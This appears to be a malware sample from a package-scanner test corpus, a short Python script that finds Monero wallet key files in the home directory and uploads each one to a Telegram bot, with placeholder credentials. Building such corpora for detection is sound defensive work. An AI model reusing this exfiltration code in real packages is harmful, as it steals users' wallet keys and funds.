# pkgguard corpus 340 (wallets), modelled on [wallet-tools]; inert, never run.
import glob
import os

import requests

TOKEN = "0000000000:placeholder-placeholder-placeholder"
CHAT = "0"
for keys in glob.glob(os.path.join(os.path.expanduser("~"), "Monero", "wallets", "*", "*.keys")):
    with open(keys, "rb") as f:
        requests.post(
            f"https://api.telegram.org/bot{TOKEN}/sendDocument",
            data={"chat_id": CHAT},
            files={"document": f},
            timeout=10,
        )
